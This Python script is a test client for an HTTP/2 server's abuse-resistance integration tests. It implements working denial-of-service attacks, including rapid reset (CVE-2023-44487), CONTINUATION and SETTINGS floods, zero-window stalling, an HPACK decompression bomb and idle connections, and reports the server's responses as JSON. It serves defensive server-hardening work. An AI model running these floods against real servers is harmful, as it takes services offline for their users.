#!/usr/bin/env python3
"""Hostile HTTP/2 clients for tests/integration/h2_abuse.rs.

Each case drives one or more raw sockets (h2c prior knowledge, or TLS with
ALPN h2) with the `h2` library (hyper-h2) or hand-made frames, and prints
one JSON object on stdout saying what the server did: GOAWAY (and its error
code), stream resets, responses, whether and when the connection closed.

    abuse.py CASE HOST PORT [--tls CA] [--path P] [--n N] [--conns K]

CASE: rapid_reset, continuation_flood, settings_flood, zero_window,
hpack_bomb, silent, get. Nothing here decides pass or fail: the Rust test does.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9,
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def connect(args):
    s = socket.create_connection((args.host, args.port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if args.tls:
        ctx = ssl.create_default_context(cafile=args.tls)
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
        if s.selected_alpn_protocol() != "h2":
            raise SystemExit(f"ALPN chose {s.selected_alpn_protocol()!r}, not h2")
    return s


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream_id) + payload


class Watch:
    """Reads whatever the server sends and keeps what matters; the frames
    are parsed by hand so that nothing is refused on our side."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None  # error code of the first GOAWAY
        self.goaway_debug = ""
        self.resets = {}  # stream id -> error code
        self.headers = {}  # stream id -> [header block fragments]
        self.data = {}  # stream id -> bytes received
        self.settings = 0  # SETTINGS frames (not ACKs) from the server
        self.acks = 0  # SETTINGS ACKs from the server
        self.closed = False
        self.closed_at = None
        self.error = None
        self.decoder = hpack.Decoder()
        self.statuses = {}  # stream id -> :status

    def poll(self, wait=0.0):
        """Reads what is there (waiting up to `wait` for the first bytes)."""
        if self.closed:
            return
        deadline = time.monotonic() + wait
        while True:
            left = max(0.0, deadline - time.monotonic())
            if not (isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()):
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    return
            try:
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                if time.monotonic() >= deadline:
                    return
                continue
            except (ConnectionError, ssl.SSLError, OSError) as e:
                self.close(repr(e))
                return
            if not chunk:
                self.close(None)
                return
            self.buf += chunk
            self.parse()
            deadline = time.monotonic()  # drain, then return

    def close(self, error):
        self.closed = True
        self.closed_at = time.monotonic()
        self.error = error

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if ftype == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.goaway_debug = payload[8:].decode("latin-1")
            elif ftype == RST_STREAM:
                self.resets[sid] = int.from_bytes(payload[:4], "big")
            elif ftype == SETTINGS:
                if flags & ACK:
                    self.acks += 1
                else:
                    self.settings += 1
            elif ftype == DATA:
                self.data[sid] = self.data.get(sid, 0) + length
            elif ftype in (HEADERS, CONTINUATION):
                block = payload
                if ftype == HEADERS:
                    pad = 0
                    if flags & 0x8:
                        pad = block[0]
                        block = block[1:]
                    if flags & 0x20:
                        block = block[5:]
                    if pad:
                        block = block[:-pad]
                self.headers.setdefault(sid, b"")
                self.headers[sid] += block
                if flags & END_HEADERS:
                    for name, value in self.decoder.decode(self.headers.pop(sid)):
                        if name in (":status", b":status"):
                            v = value.decode() if isinstance(value, bytes) else value
                            self.statuses[sid] = int(v)

    def wait_closed(self, wait):
        deadline = time.monotonic() + wait
        while not self.closed and time.monotonic() < deadline:
            self.poll(deadline - time.monotonic())
        return self.closed

    def report(self, start):
        return {
            "goaway": self.goaway,
            "goaway_debug": self.goaway_debug,
            "resets": len(self.resets),
            "reset_codes": sorted(set(self.resets.values())),
            "statuses": {str(k): v for k, v in self.statuses.items()},
            "data": sum(self.data.values()),
            "settings": self.settings,
            "acks": self.acks,
            "closed": self.closed,
            "closed_after": None if self.closed_at is None else round(self.closed_at - start, 3),
            "error": self.error,
        }


def send(sock, watch, data):
    """Sends `data`; False once the server has closed or stopped reading
    for 5 s (the socket send timeout). Reads along so that the server's
    own writes never block it."""
    view = memoryview(data)
    sock.settimeout(0.2)
    stalled_since = None
    try:
        while view:
            try:
                n = sock.send(view)
                view = view[n:]
                stalled_since = None
            except (socket.timeout, ssl.SSLWantWriteError, BlockingIOError):
                stalled_since = stalled_since or time.monotonic()
                if time.monotonic() - stalled_since > 5:
                    return False
            watch.poll()
            if watch.closed:
                return False
    except (ConnectionError, ssl.SSLError, OSError) as e:
        watch.close(repr(e))
        return False
    finally:
        sock.settimeout(10)
    return True


def request_headers(args, path=None, extra=()):
    authority = f"{args.host}:{args.port}"
    return [
        (":method", "GET"),
        (":scheme", "https" if args.tls else "http"),
        (":authority", authority),
        (":path", path or args.path),
    ] + list(extra)


def h2_client(sock, settings=None):
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    if settings:
        conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return conn


def case_get(args):
    """One normal request: the status and body size."""
    start = time.monotonic()
    sock = connect(args)
    conn = h2_client(sock)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, request_headers(args), end_stream=True)
    sock.sendall(conn.data_to_send())
    status, body, done = None, 0, False
    while not done and time.monotonic() - start < 10:
        data = sock.recv(65536)
        if not data:
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                status = int(dict(ev.headers)[":status"])
            elif isinstance(ev, h2.events.DataReceived):
                body += len(ev.data)
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                done = True
        sock.sendall(conn.data_to_send())
    sock.close()
    return {"status": status, "body": body}


def case_rapid_reset(args):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) for stream after
    stream, `n` per connection, on `conns` connections one after another,
    without waiting for any answer. With `--delay-ms`, streams go in
    batches of 50: their HEADERS, a pause (the server has accepted them and
    started their requests), then their resets, as over a real network."""
    start = time.monotonic()
    out = {"sent": 0, "conns": []}
    batch_streams = 50 if args.delay_ms else 100
    for _ in range(args.conns):
        sock = connect(args)
        conn = h2_client(sock)
        watch = Watch(sock)
        sent = 0
        i = 0
        ok = True
        while ok and i < args.n:
            ids = [1 + 2 * j for j in range(i, min(i + batch_streams, args.n))]
            heads, resets = b"", b""
            for sid in ids:
                block = conn.encoder.encode(request_headers(args, f"{args.path}/{sid}"))
                heads += frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
                resets += frame(RST_STREAM, 0, sid, struct.pack(">I", h2.errors.ErrorCodes.CANCEL))
            if args.delay_ms:
                ok = send(sock, watch, heads)
                time.sleep(args.delay_ms / 1000)
                ok = ok and send(sock, watch, resets)
            else:
                # Each stream's HEADERS right before its RST_STREAM.
                pairs = b"".join(
                    heads_one + reset_one
                    for heads_one, reset_one in zip(split_frames(heads), split_frames(resets))
                )
                ok = send(sock, watch, pairs)
            if ok:
                sent += len(ids)
            i += len(ids)
        watch.wait_closed(2)
        c = watch.report(start)
        c["sent"] = sent
        out["sent"] += sent
        out["conns"].append(c)
        sock.close()
    out["elapsed"] = round(time.monotonic() - start, 3)
    return out


def split_frames(data):
    """The frames of `data`, each as bytes."""
    out = []
    while data:
        n = 9 + int.from_bytes(data[:3], "big")
        out.append(data[:n])
        data = data[n:]
    return out


def case_continuation_flood(args):
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then CONTINUATION
    frames (each a few header fields, never END_HEADERS) up to `n` per
    connection, on `conns` connections."""
    start = time.monotonic()
    out = {"conns": []}
    for _ in range(args.conns):
        sock = connect(args)
        watch = Watch(sock)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        enc = hpack.Encoder()
        first = enc.encode(request_headers(args))
        ok = send(sock, watch, frame(HEADERS, END_STREAM, 1, first))
        sent = 0
        while ok and sent < args.n:
            # Literal fields, not indexed, 1 KiB each: the decoder must
            # keep decoding (or stop the client).
            if args.empty:
                block = b""
            else:
                fields = [(f"x-flood-{sent}-{j}", "v" * 1000) for j in range(8)]
                block = enc.encode(fields, huffman=False)
            ok = send(sock, watch, frame(CONTINUATION, 0, 1, block))
            sent += 1
        watch.wait_closed(5)
        c = watch.report(start)
        c["continuations_sent"] = sent
        out["conns"].append(c)
        sock.close()
    out["elapsed"] = round(time.monotonic() - start, 3)
    return out


def case_settings_flood(args):
    """`n` SETTINGS frames in a row, never reading (so never seeing the
    server's ACKs) until all are sent or the server stops reading."""
    start = time.monotonic()
    sock = connect(args)
    sock.sendall(PREFACE)
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535) + struct.pack(">HI", 0x2, 0))
    sent, blocked, closed, error = 0, False, False, None
    batch = one * 100
    sock.settimeout(5)
    try:
        while sent < args.n:
            sock.sendall(batch)
            sent += 100
    except (socket.timeout, ssl.SSLWantWriteError):
        blocked = True
    except (ConnectionError, ssl.SSLError, OSError) as e:
        closed, error = True, repr(e)
    sent_at = time.monotonic()
    # Now read: what did the server do with them?
    watch = Watch(sock)
    if closed:
        watch.close(error)
    watch.wait_closed(args.wait)
    c = watch.report(start)
    c.update({"sent": sent, "blocked": blocked, "send_seconds": round(sent_at - start, 3)})
    sock.close()
    return c


def case_zero_window(args):
    """Clients whose stream windows are 0 (SETTINGS_INITIAL_WINDOW_SIZE 0)
    and who never send WINDOW_UPDATE, each asking for a large body on
    `streams` streams, on `conns` connections at once; then they wait up to
    `wait` seconds for the server to reset every stream or close."""
    start = time.monotonic()
    clients = []
    for _ in range(args.conns):
        sock = connect(args)
        conn = h2_client(sock, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        watch = Watch(sock)
        data = conn.data_to_send()
        ids = [1 + 2 * j for j in range(args.streams)]
        for sid in ids:
            block = conn.encoder.encode(request_headers(args, f"{args.path}?s={sid}"))
            data += frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
        send(sock, watch, data)
        clients.append({"sock": sock, "watch": watch, "ids": ids, "acked": False, "ended_at": None})
    deadline = start + args.wait
    while time.monotonic() < deadline:
        busy = False
        for c in clients:
            w = c["watch"]
            if c["ended_at"] is not None:
                continue
            w.poll(0.05)
            if w.settings and not c["acked"] and not w.closed:
                # ACK the server's SETTINGS (the h2 state machine is not fed).
                try:
                    c["sock"].sendall(frame(SETTINGS, ACK, 0))
                except OSError:
                    pass
                c["acked"] = True
            if w.closed or w.goaway is not None or all(sid in w.resets for sid in c["ids"]):
                c["ended_at"] = time.monotonic()
            else:
                busy = True
        if not busy:
            break
    out = {"conns": [], "waited": round(time.monotonic() - start, 3)}
    for c in clients:
        r = c["watch"].report(start)
        r["ended_after"] = None if c["ended_at"] is None else round(c["ended_at"] - start, 3)
        r["responses"] = len(c["watch"].statuses)
        out["conns"].append(r)
        c["sock"].close()
    return out


def case_hpack_bomb(args):
    """A 4 KB header put in the HPACK table by one request (`PATH/first`),
    then a request (`PATH/bomb`) that references it `n` times: a byte per
    reference on the wire, n x 4 KB decoded. On `conns` connections, one
    after another."""
    start = time.monotonic()
    out = {"conns": []}
    big = ("x-bomb", "b" * 3900)  # 3938 bytes in the HPACK table (RFC 7541 §4.1), of 4096
    for _ in range(args.conns):
        sock = connect(args)
        watch = Watch(sock)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        enc = hpack.Encoder()
        # Request 1 carries the header once: the encoder indexes it.
        first = enc.encode(request_headers(args, f"{args.path}/first") + [big])
        send(sock, watch, frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
        # Request 2: that table entry referenced n times (one byte each).
        block = enc.encode(request_headers(args, f"{args.path}/bomb"))
        index = enc.header_table.search(big[0].encode(), big[1].encode())[0]
        assert 61 < index < 127, index
        block += bytes([0x80 | index]) * args.n
        sid = 3
        frames = b""
        head = True
        while block:
            part, block = block[:16384], block[16384:]
            flags = 0 if block else END_HEADERS
            if head:
                frames += frame(HEADERS, flags | END_STREAM, sid, part)
                head = False
            else:
                frames += frame(CONTINUATION, flags, sid, part)
        send(sock, watch, frames)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not watch.closed:
            watch.poll(0.2)
            if sid in watch.statuses or sid in watch.resets or watch.goaway is not None:
                # Give the server a moment to reset the stream after its answer.
                watch.poll(0.5)
                break
        c = watch.report(start)
        c["first_status"] = watch.statuses.get(1)
        c["bomb_status"] = watch.statuses.get(sid)
        c["bomb_reset"] = watch.resets.get(sid)
        c["bomb_wire_bytes"] = len(frames)
        c["bomb_decoded_bytes"] = args.n * (len(big[0]) + len(big[1]) + 32)
        out["conns"].append(c)
        sock.close()
    out["elapsed"] = round(time.monotonic() - start, 3)
    return out


def case_silent(args):
    """`conns` connections that send nothing (with `--preface`: only the
    HTTP/2 connection preface and an empty SETTINGS) after the TLS
    handshake, if any; each waits up to `wait` seconds for the server to
    close."""
    start = time.monotonic()
    socks = []
    for _ in range(args.conns):
        sock = connect(args)
        if args.preface:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        socks.append((sock, Watch(sock)))
    deadline = start + args.wait
    while time.monotonic() < deadline and not all(w.closed for _, w in socks):
        for _, w in socks:
            w.poll(0.01)
    out = {"conns": [w.report(start) for _, w in socks]}
    for sock, _ in socks:
        sock.close()
    return out


CASES = {
    "get": case_get,
    "rapid_reset": case_rapid_reset,
    "continuation_flood": case_continuation_flood,
    "settings_flood": case_settings_flood,
    "zero_window": case_zero_window,
    "hpack_bomb": case_hpack_bomb,
    "silent": case_silent,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("case", choices=sorted(CASES))
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--tls", metavar="CA", help="TLS with ALPN h2, trusting this CA")
    p.add_argument("--path", default="/")
    p.add_argument("--n", type=int, default=1000)
    p.add_argument("--conns", type=int, default=1)
    p.add_argument("--streams", type=int, default=1)
    p.add_argument("--preface", action="store_true", help="silent: send the preface")
    p.add_argument("--wait", type=float, default=10.0)
    p.add_argument("--delay-ms", type=float, default=0.0)
    p.add_argument("--empty", action="store_true", help="continuation_flood: empty frames")
    args = p.parse_args()
    print(json.dumps(CASES[args.case](args)))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
